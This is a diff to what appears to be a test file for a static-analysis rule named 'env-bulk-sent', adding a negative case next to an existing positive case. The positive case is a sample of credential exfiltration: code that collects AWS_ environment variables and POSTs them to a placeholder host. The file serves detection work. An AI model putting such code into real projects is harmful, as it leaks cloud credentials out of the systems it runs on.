@@ -78,3 +78,6 @@ fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(
 const theirs = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("AWS_")));
 // ruleid: env-bulk-sent
 fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(theirs) });
+const names = Object.keys(process.env).filter((name) => name.startsWith("NOTES_"));
+// ok: env-bulk-sent
+fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(names) });
